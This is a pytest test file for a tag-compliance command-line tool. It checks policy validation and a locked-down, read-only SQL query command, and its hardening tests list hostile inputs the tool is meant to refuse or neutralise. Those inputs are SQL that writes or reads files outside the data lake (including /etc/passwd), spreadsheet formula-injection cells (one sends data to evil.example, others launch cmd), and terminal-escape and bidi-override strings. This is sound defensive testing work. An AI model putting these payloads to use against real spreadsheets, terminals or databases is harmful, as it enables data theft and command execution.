"""The tag-compliance command: policy check and query, through main() as the console script runs it."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path

import duckdb
import pytest

from tag_compliance.cli import main
from tag_compliance.config import DEFAULT_POLICY
from tag_compliance.scoring import score_snapshot
from tag_compliance.warehouse import VIEW_COLUMNS, publish_warehouse
from tests.sql_fixtures import (
    ACCOUNT_1,
    CE_EC2,
    RESOURCES,
    SNAPSHOT,
    fixture_policy,
    resource,
    scored_warehouse,
    service_cost,
    write_costs,
    write_snapshot,
)


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return scored_warehouse(tmp_path_factory.mktemp("cli"))


def test_policy_check_ok(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["policy", "check", str(DEFAULT_POLICY)]) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"OK {DEFAULT_POLICY}: version 2026.11.1, 5 required tags")


def test_policy_check_prints_every_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text(
        "version: '1'\n"
        "required_tags:\n"
        "  - key: CostCenter\n"
        "    severity: critical\n"
        "    pattern: 'CC-(['\n"
        "  - key: Env\n"
        "    colour: red\n"
    )
    assert main(["policy", "check", str(bad)]) == 1
    err = capsys.readouterr().err
    assert f"{bad}: required_tags[0].severity: Input should be 'error' or 'warning' (got 'critical')" in err
    assert f"{bad}: required_tags[0].pattern: not a valid RE2 pattern" in err
    assert f"{bad}: required_tags[1].colour: Extra inputs are not permitted (got 'red')" in err


def test_policy_check_bad_syntax(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.json"
    bad.write_text('{"version": "1",,}')
    assert main(["policy", "check", str(bad)]) == 1
    assert f"{bad}: invalid JSON at line 1" in capsys.readouterr().err


def test_query_table(warehouse: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sql = (
        "SELECT dimension, dimension_value, compliance_pct FROM compliance_summary "
        "WHERE dimension = 'overall'"
    )
    assert main(["query", sql, "--warehouse", str(warehouse)]) == 0
    out = capsys.readouterr().out
    for text in ("dimension_value", "overall", "all", "37.5", "1 row"):
        assert text in out


def test_query_table_prints_values_literally(warehouse: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", "SELECT '[bold]x[/bold]' AS v, NULL AS n", "--warehouse", str(warehouse)]) == 0
    out = capsys.readouterr().out
    assert "[bold]x[/bold]" in out
    assert "NULL" in out


def test_query_csv(warehouse: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sql = (
        "SELECT account_id, resource_id, compliant, violation_types FROM resource_compliance "
        "WHERE resource_id IN ('i-0b-violations', 'svc-untagged') ORDER BY resource_id"
    )
    assert main(["query", sql, "--format", "csv", "--warehouse", str(warehouse)]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows == [
        ["account_id", "resource_id", "compliant", "violation_types"],
        [
            ACCOUNT_1,
            "i-0b-violations",
            "false",
            '["invalid_value", "missing_required_tag", "prohibited_tag", "wrong_key_case"]',
        ],
        ["210987654321", "svc-untagged", "", "[]"],
    ]


def test_query_json(warehouse: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sql = "SELECT snapshot_date, account_id, tags FROM resources WHERE resource_id = 'i-0j-warning'"
    assert main(["query", sql, "--format", "json", "--warehouse", str(warehouse)]) == 0
    assert json.loads(capsys.readouterr().out) == [
        {
            "snapshot_date": "2026-03-14",
            "account_id": ACCOUNT_1,
            "tags": {"CostCenter": "CC-2000", "Environment": "staging", "Team": "Sales"},
        }
    ]


def test_query_is_read_only(warehouse: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", "DROP VIEW resources", "--warehouse", str(warehouse)]) == 1
    assert "query refused: DROP statements are not allowed" in capsys.readouterr().err
    assert main(["query", "SELECT count(*) AS n FROM resources", "--warehouse", str(warehouse)]) == 0


def test_query_error_is_reported(warehouse: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["query", "SELECT * FROM nope", "--warehouse", str(warehouse)]) == 1
    assert "query failed: Catalog Error" in capsys.readouterr().err


def test_query_without_warehouse_says_what_to_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    missing = tmp_path / "absent.duckdb"
    assert main(["query", "SELECT 1", "--warehouse", str(missing)]) == 1
    err = capsys.readouterr().err
    assert str(missing) in err
    assert "run `make demo` or the tag_compliance DAG first" in err


def test_query_default_warehouse_from_settings(
    warehouse: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TAG_COMPLIANCE_WAREHOUSE", str(warehouse))
    assert main(["query", "SELECT count(*) AS n FROM violations", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out) == [{"n": 15}]


def test_no_subcommand_prints_help(capsys: pytest.CaptureFixture[str]) -> None:
    assert main([]) == 2
    assert "policy" in capsys.readouterr().err


def test_console_script_runs() -> None:
    result = subprocess.run(
        [str(Path(sys.executable).parent / "tag-compliance"), "policy", "check", str(DEFAULT_POLICY)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("OK ")


# --- the query connection is locked down (issue 11, defect 4) ------------------------------------

DAY_2 = SNAPSHOT + timedelta(days=1)


@dataclass(frozen=True)
class LockedSetup:
    """A two-day warehouse, its lake, and files outside the lake that a query must not reach."""

    warehouse: Path
    lake: Path
    outside: Path
    sibling: Path  # a directory whose name starts with the lake's: inside by string prefix only


@pytest.fixture(scope="module")
def locked(tmp_path_factory: pytest.TempPathFactory) -> LockedSetup:
    root = tmp_path_factory.mktemp("locked").resolve()
    lake = root / "lake"
    write_snapshot(lake)
    # Day 2: one resource gains a tag, one is gone, so tag_drift has rows of both kinds.
    day_2 = [
        {**row, "tags": {**row["tags"], "Owner": "ops"}} if row["resource_id"] == "i-0a-compliant" else row
        for row in RESOURCES
        if row["resource_id"] != "svc-untagged"
    ]
    write_snapshot(lake, day_2, snapshot_date=DAY_2)
    for day in (SNAPSHOT, DAY_2):
        score_snapshot(lake, day, fixture_policy())
    warehouse = root / "warehouse.duckdb"
    publish_warehouse(lake, warehouse)
    outside = root / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_text("user,password\nroot,hunter2\n", encoding="utf-8")
    sibling = root / "lake-copy"
    sibling.mkdir()
    with duckdb.connect() as con:  # real Parquet and DuckDB files that would read fine if allowed
        con.execute(f"COPY (SELECT 'hunter2' AS password) TO '{outside / 'secret.parquet'}'")
        con.execute(f"COPY (SELECT 'hunter2' AS password) TO '{sibling / 'secret.parquet'}'")
        con.execute(f"ATTACH '{outside / 'other.duckdb'}' AS other")
        con.execute("CREATE TABLE other.t AS SELECT 42 AS answer")
    # A file of the layer the views read below the lake root (<lake>/_commits/): readable too.
    commits = lake / "_commits"
    assert commits.is_dir()
    with duckdb.connect() as con:
        con.execute(f"COPY (SELECT 7 AS commit_id) TO '{commits / 'commit-7.parquet'}'")
    return LockedSetup(warehouse, lake, outside, sibling)


def files_under(*directories: Path) -> list[str]:
    return sorted(str(path) for directory in directories for path in directory.rglob("*"))


def run_query(warehouse: Path, sql: str, *options: str) -> int:
    return main(["query", sql, "--warehouse", str(warehouse), *options])


STATEMENTS_REFUSED = {
    "copy into the lake": (
        "COPY (SELECT * FROM violations) TO '{lake}/violations/snapshot_date=2026-03-14/part-1.parquet'",
        "COPY statements are not allowed",
    ),
    "copy elsewhere": ("COPY (SELECT 1 AS a) TO '{outside}/copied.csv'", "COPY statements are not allowed"),
    "copy from a file": ("COPY violations FROM '{outside}/secret.csv'", "COPY statements are not allowed"),
    "copy after a select": (
        "SELECT 1; COPY (SELECT 1 AS a) TO '{outside}/copied.csv'",
        "COPY statements are not allowed",
    ),
    "export": ("EXPORT DATABASE '{outside}/export'", "EXPORT statements are not allowed"),
    "create table": ("CREATE TABLE stolen AS SELECT * FROM violations", "CREATE statements are not allowed"),
    "create temp table": ("CREATE TEMP TABLE t AS SELECT 1 AS a", "CREATE statements are not allowed"),
    "attach": ("ATTACH '{outside}/other.duckdb' AS other", "ATTACH statements are not allowed"),
    "install": ("INSTALL httpfs", "INSTALL statements are not allowed"),
    "force install": ("FORCE INSTALL httpfs", "FORCE INSTALL statements are not allowed"),
    "load": ("LOAD httpfs", "LOAD statements are not allowed"),
    "set": ("SET enable_external_access = true", "SET statements are not allowed"),
    "set allowed directories": ("SET allowed_directories = ['/']", "SET statements are not allowed"),
    "reset": ("RESET lock_configuration", "RESET statements are not allowed"),
    "pragma": ("PRAGMA enable_profiling", "PRAGMA statements are not allowed"),
    "explain analyze": (
        "EXPLAIN ANALYZE COPY (SELECT 1 AS a) TO '{lake}/forged.parquet'",
        "EXPLAIN statements are not allowed",
    ),
}

FILES_REFUSED = {
    "read_csv outside the lake": ("SELECT * FROM read_csv('{outside}/secret.csv')", "{outside}/secret.csv"),
    "read_csv of /etc/passwd": ("SELECT * FROM read_csv('/etc/passwd', sep = ':')", "/etc/passwd"),
    "read_text outside the lake": (
        "SELECT content FROM read_text('{outside}/secret.csv')",
        "{outside}/secret.csv",
    ),
    "read_blob outside the lake": (
        "SELECT content FROM read_blob('{outside}/secret.csv')",
        "{outside}/secret.csv",
    ),
    "read_parquet outside the lake": (
        "SELECT * FROM read_parquet('{outside}/secret.parquet')",
        "{outside}/secret.parquet",
    ),
    "read_parquet next to the lake": (
        "SELECT * FROM read_parquet('{sibling}/secret.parquet')",
        "{sibling}/secret.parquet",
    ),
    "read_text out of the lake by ..": (
        "SELECT content FROM read_text('{lake}/../outside/secret.csv')",
        "{lake}/../outside/secret.csv",
    ),
    "glob outside the lake": ("SELECT * FROM glob('{outside}/*')", "{outside}/*"),
    "read over http": (
        "SELECT * FROM read_parquet('https://example.invalid/x.parquet')",
        "https://example.invalid",
    ),
}


def one_line_error(capsys: pytest.CaptureFixture[str]) -> str:
    captured = capsys.readouterr()
    assert captured.out == ""
    assert "Traceback" not in captured.err
    lines = captured.err.strip().splitlines()
    assert len(lines) == 1, captured.err
    return lines[0]


@pytest.mark.parametrize(("sql", "expected"), STATEMENTS_REFUSED.values(), ids=STATEMENTS_REFUSED.keys())
def test_query_refuses_statements_that_write_attach_install_or_reconfigure(
    locked: LockedSetup, sql: str, expected: str, capsys: pytest.CaptureFixture[str]
) -> None:
    before = files_under(locked.lake, locked.outside, locked.warehouse.parent)
    sql = sql.format(lake=locked.lake, outside=locked.outside)
    assert run_query(locked.warehouse, sql) == 1
    line = one_line_error(capsys)
    assert line.startswith(f"query refused: {expected}"), line
    assert "SELECT" in line  # says what does run
    assert files_under(locked.lake, locked.outside, locked.warehouse.parent) == before


@pytest.mark.parametrize(("sql", "path"), FILES_REFUSED.values(), ids=FILES_REFUSED.keys())
def test_query_cannot_read_files_outside_the_lake(
    locked: LockedSetup, sql: str, path: str, capsys: pytest.CaptureFixture[str]
) -> None:
    paths = {"lake": locked.lake, "outside": locked.outside, "sibling": locked.sibling}
    assert run_query(locked.warehouse, sql.format(**paths)) == 1
    line = one_line_error(capsys)
    assert line.startswith("query refused: "), line
    assert path.format(**paths) in line
    # The roots named are the lake the views read (and TAG_COMPLIANCE_LAKE, which sorts
    # anywhere relative to a temporary directory depending on where the checkout lives).
    assert "reads files only under the lake (" in line
    roots = line.rsplit("reads files only under the lake (", 1)[1].rstrip(")").split(", ")
    assert str(locked.lake) in roots
    assert "hunter2" not in line


def test_query_reads_anything_below_the_lake_root(
    locked: LockedSetup, capsys: pytest.CaptureFixture[str]
) -> None:
    sql = f"SELECT commit_id FROM read_parquet('{locked.lake}/_commits/*.parquet')"
    assert run_query(locked.warehouse, sql, "--format", "json") == 0
    assert json.loads(capsys.readouterr().out) == [{"commit_id": 7}]


def view_counts(read: Callable[[str], int]) -> dict[str, int]:
    return {view: read(f"SELECT count(*) AS n FROM {view}") for view in VIEW_COLUMNS}


def test_the_views_still_answer_after_refused_statements(
    locked: LockedSetup, capsys: pytest.CaptureFixture[str]
) -> None:
    def unlocked(sql: str) -> int:
        with duckdb.connect(str(locked.warehouse), read_only=True) as con:
            return con.execute(sql).fetchone()[0]

    def through_the_command(sql: str) -> int:
        assert run_query(locked.warehouse, sql, "--format", "json") == 0, capsys.readouterr().err
        return json.loads(capsys.readouterr().out)[0]["n"]

    expected = view_counts(unlocked)
    # Every view answers, derived ones too, over files of both days (resources: 14 files).
    assert all(expected[view] > 0 for view in ("resources", "violations", "tag_drift", "compliance_trend"))
    assert expected["tag_suggestions"] > 0 and expected["violation_history"] > 0
    for sql, _ in [*STATEMENTS_REFUSED.values(), *FILES_REFUSED.values()]:
        run_query(
            locked.warehouse, sql.format(lake=locked.lake, outside=locked.outside, sibling=locked.sibling)
        )
    capsys.readouterr()
    assert view_counts(through_the_command) == expected
    assert through_the_command("SELECT count(*) AS n FROM violations") == expected["violations"]


def test_report_and_remediation_plan_read_through_the_same_lockdown(
    locked: LockedSetup, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A warehouse file whose views were altered to read a file outside the lake: every reader
    of the warehouse refuses, not only ``query``."""
    tampered = tmp_path / "tampered.duckdb"
    shutil.copy(locked.warehouse, tampered)
    secret = locked.outside / "secret.csv"
    with duckdb.connect(str(tampered)) as con:
        for view in ("compliance_summary", "resource_compliance"):  # what each reads first
            con.execute(
                f"CREATE OR REPLACE VIEW {view} AS SELECT password, DATE '2026-03-14' AS snapshot_date, "
                f"'overall' AS dimension FROM read_csv('{secret}')"
            )
    with duckdb.connect(str(tampered), read_only=True) as con:  # control: unlocked, it reads the secret
        assert con.execute("SELECT password FROM compliance_summary").fetchall() == [("hunter2",)]
    assert main(["report", "--warehouse", str(tampered), "-o", str(tmp_path / "r.html")]) == 1
    assert f'Cannot access file "{secret}"' in capsys.readouterr().err
    assert not (tmp_path / "r.html").exists()
    assert main(["remediation-plan", "--warehouse", str(tampered)]) == 1
    captured = capsys.readouterr()
    assert f'Cannot access file "{secret}"' in captured.err
    assert "hunter2" not in captured.out + captured.err


def test_the_console_script_refuses_without_a_traceback(locked: LockedSetup) -> None:
    target = locked.lake / "violations" / "snapshot_date=2026-03-14" / "part-1.parquet"
    result = subprocess.run(
        [
            str(Path(sys.executable).parent / "tag-compliance"),
            "query",
            f"COPY (SELECT * FROM violations) TO '{target}'",
            "--warehouse",
            str(locked.warehouse),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert result.returncode == 1
    assert result.stdout == ""
    assert result.stderr.startswith("query refused: COPY statements are not allowed")
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1
    assert not target.exists()


# --- output hygiene (issue 11, defect 8) ----------------------------------------------------------

# Text cells a spreadsheet would run as formulas (OWASP CSV injection), and harmless ones.
FORMULAS = {
    "a-hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "b-plus": "+1+cmd|' /C calc'!A0",
    "c-minus": "-2+3+cmd|' /C calc'!A0",
    "d-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "e-tab": "\t=1+1",
    "f-cr": "\r=1+1",
}
HARMLESS = {"g-plain": "CC-1234", "h-inner": "a=b+c-d@e", "i-space": " =not at the start"}
# Text a terminal would act on (ESC, C1 CSI, DEL, bell, newline) or show reordered (bidi controls).
CONTROLS = {
    "j-esc": "\x1b[31mred\x1b[0m\x1b]0;pwned\x07",
    "k-c1": "x\x9b31my\x85z",
    "l-del": "a\x7fb\x00c",
    "m-newline": "two\nlines\r",
    "n-rlo": "\u202eevil.exe",
    "o-isolates": "\u2066a\u2067b\u2068c\u2069\u202a\u202b\u202c\u202d",
    "p-cr-inside": "x\r=1+1",  # a bare CR would end the row: the next "cell" would start with =
}
ESCAPED = {
    "j-esc": r"\x1b[31mred\x1b[0m\x1b]0;pwned\x07",
    "k-c1": r"x\x9b31my\x85z",
    "l-del": r"a\x7fb\x00c",
    "m-newline": r"two\nlines\r",
    "n-rlo": r"\u202eevil.exe",
    "o-isolates": r"\u2066a\u2067b\u2068c\u2069\u202a\u202b\u202c\u202d",
    "p-cr-inside": r"x\r=1+1",
}
HOSTILE_TAGS = {**FORMULAS, **HARMLESS, **CONTROLS}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A warehouse whose one resource carries every hostile tag, and a cost credit of -12.5."""
    root = tmp_path_factory.mktemp("hostile")
    write_snapshot(
        root / "lake", [resource(ACCOUNT_1, "us-east-1", "ec2:instance", "i-hostile", HOSTILE_TAGS)]
    )
    write_costs(root / "lake", service_cost(ACCOUNT_1, CE_EC2, "-12.5", "-12.5"))
    path = root / "warehouse.duckdb"
    publish_warehouse(root / "lake", path)
    return path


TAGS_SQL = (
    "SELECT entry.key AS k, entry.value AS v FROM (SELECT unnest(map_entries(tags)) AS entry FROM resources) "
    "ORDER BY k"
)


def csv_rows(capsys: pytest.CaptureFixture[str]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))


def test_query_csv_neutralises_formula_cells(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_query(hostile, TAGS_SQL, "--format", "csv") == 0
    out = capsys.readouterr().out
    assert 'p-cr-inside,"x\r=1+1"\n' in out  # quoted: one cell, one row
    rows = dict(list(csv.reader(io.StringIO(out, newline="")))[1:])
    assert len(rows) == len(HOSTILE_TAGS)
    assert {key: rows[key] for key in FORMULAS} == {key: "'" + value for key, value in FORMULAS.items()}
    assert {key: rows[key] for key in HARMLESS} == HARMLESS
    assert {key: rows[key] for key in CONTROLS} == CONTROLS  # CSV keeps exact values otherwise


def test_query_csv_keeps_numbers_numbers(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sql = (
        "SELECT amount, -3 AS i, CAST(-1.5 AS DOUBLE) AS f, '-3' AS t, '=1' AS \"=header\" FROM costs "
        "WHERE metric = 'AmortizedCost'"
    )
    assert run_query(hostile, sql, "--format", "csv") == 0
    assert csv_rows(capsys) == [
        ["amount", "i", "f", "t", "'=header"],
        ["-12.5000000000", "-3", "-1.5", "'-3", "'=1"],  # a DECIMAL credit stays a number; text does not
    ]


def test_query_raw_csv_writes_exact_values(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_query(hostile, TAGS_SQL, "--format", "csv", "--raw-csv") == 0
    assert dict(csv_rows(capsys)[1:]) == HOSTILE_TAGS


def test_query_help_documents_the_formula_guard(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        main(["query", "--help"])
    assert exit_.value.code == 0
    text = " ".join(capsys.readouterr().out.split())
    assert "--raw-csv" in text
    assert "= + - @" in text and "formula" in text


def test_query_table_escapes_control_characters(hostile: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert run_query(hostile, TAGS_SQL) == 0
    out = capsys.readouterr().out
    for text in ESCAPED.values():
        assert text in out
    raw = {chr(code) for code in [*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0)]}
    raw |= {chr(code) for code in [*range(0x202A, 0x202F), *range(0x2066, 0x206A)]}
    assert sorted(raw & set(out)) == []
    assert FORMULAS["a-hyperlink"] in out  # the table is not a spreadsheet: no quote prefix


def test_query_table_escapes_control_characters_in_headers_and_nested_values(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    sql = "SELECT tags AS \"col\x1b[2J\", [tags['n-rlo']] AS l FROM resources"
    assert run_query(hostile, sql) == 0
    out = capsys.readouterr().out
    assert r"col\x1b[2J" in out and r"\u202eevil.exe" in out
    assert "\x1b" not in out and "\u202e" not in out


def test_query_json_keeps_exact_values_and_escapes_control_characters(
    hostile: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert run_query(hostile, TAGS_SQL, "--format", "json") == 0
    out = capsys.readouterr().out
    assert {row["k"]: row["v"] for row in json.loads(out)} == HOSTILE_TAGS
    assert "\x9b" not in out and "\x7f" not in out and "\u202e" not in out and "\u2066" not in out
